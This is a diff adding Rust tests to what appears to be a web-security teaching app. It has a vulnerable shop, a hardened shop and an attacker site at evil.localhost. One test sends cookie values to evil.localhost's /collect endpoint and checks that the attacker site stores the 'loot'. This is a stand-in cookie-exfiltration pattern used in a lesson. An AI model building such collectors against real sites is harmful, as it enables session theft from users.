@@ -464,6 +464,33 @@ async fn mallorys_pages_are_no_weapon_against_other_machines() {
 }
 
 #[tokio::test]
+async fn mallorys_site_keeps_the_first_twenty_cookies_and_forgets_them_when_asked() {
+    let lesson = app(MemoryStore::default());
+    let send = async |cookie: &str| {
+        let (status, ..) = ask(lesson.clone(), "GET", "evil.localhost", &format!("/collect?cookie={cookie}")).await;
+        assert_eq!(status, StatusCode::NO_CONTENT);
+    };
+    let loot = async || ask(lesson.clone(), "GET", "evil.localhost", "/").await.2.matches("<pre>").count();
+    send("").await;
+    assert_eq!(loot().await, 0);
+    for number in 0..21 {
+        send(&format!("shop%3D{number}")).await;
+    }
+    assert_eq!(loot().await, 20);
+    let (status, ..) = ask(lesson.clone(), "POST", "evil.localhost", "/forget").await;
+    assert_eq!((status, loot().await), (StatusCode::SEE_OTHER, 0));
+}
+
+#[tokio::test]
+async fn a_shop_shows_what_was_ordered() -> Result<(), Miss> {
+    let trial = shop(&[]);
+    let alice = trial.browser("alice");
+    log_in(&alice, "alice", "sunshine").await?.redirects_to("/")?;
+    alice.post("/buy", &[("item", "a diary")]).await?.redirects_to("/")?;
+    alice.get("/").await?.shows("alice: a diary")
+}
+
+#[tokio::test]
 async fn the_shops_are_at_their_hosts_and_nowhere_else() {
     for (host, is_shop) in
         [("localhost", false), ("evil.localhost", false), ("vulnerable.localhost", true), ("hardened.localhost", true)]
